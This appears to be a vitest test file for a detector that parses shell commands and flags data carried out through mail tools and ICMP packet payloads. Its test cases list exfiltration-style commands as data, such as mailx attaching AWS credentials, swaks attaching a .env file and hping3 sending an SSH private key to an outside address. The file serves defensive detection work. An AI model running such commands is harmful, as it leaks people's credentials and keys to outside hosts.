import { describe, expect, it } from 'vitest';
import { messagesOf } from '../../src/extract/exfil-messages.js';
import { command } from '../helpers/command.js';

const messages = (argv: string[]) =>
  messagesOf(command(argv)).map((m) => [
    m.sink,
    m.host,
    m.dataArgs.join(','),
    m.files.join(','),
    m.sendsStdin,
  ]);

describe('data carried out in mail and packet payloads', () => {
  it.each<[string[], (string | boolean)[][]]>([
    [['mail', '-s', 'prod creds', 'ops@example.org'], [['mail', 'example.org', '2', '', true]]],
    [
      ['mailx', '-a', '/home/u/.aws/credentials', '-s', 'x', 'a@b.example'],
      [['mail', 'b.example', '4', '/home/u/.aws/credentials', true]],
    ],
    [
      ['mutt', '-s', 'logs', '-a', 'app.log', '--', 'ops@example.org'],
      [['mail', 'example.org', '2', 'app.log', true]],
    ],
    [['sendmail', '-t'], [['mail', '', '', '', true]]],
    [['mail', '-s', 'build done', 'root'], [['mail', 'localhost', '2', '', true]]],
    [
      ['swaks', '--to', 'a@example.org', '--server', 'smtp.example.net:587', '--attach', '@.env'],
      [['mail', 'smtp.example.net', '', '.env', false]],
    ],
    [['swaks', '--to', 'a@example.org', '--body', 'hello'], [['mail', 'example.org', '4', '', false]]],
    [['ping', '-c', '1', '-p', 'deadbeef', '203.0.113.9'], [['ping', '203.0.113.9', '4', '', false]]],
    [
      ['hping3', '-1', '-E', '/home/u/.ssh/id_rsa', '-d', '1200', '198.51.100.7'],
      [['hping', '198.51.100.7', '', '/home/u/.ssh/id_rsa', false]],
    ],
    // a ping with no payload, other programs
    [['ping', '-c', '3', 'example.com'], []],
    [['ping6', '-i', '0.2', '::1'], []],
    [['hping3', '-S', '-p', '80', 'example.com'], []],
    [['curl', 'https://example.com'], []],
  ])('%j', (argv, want) => expect(messages(argv)).toEqual(want));
});
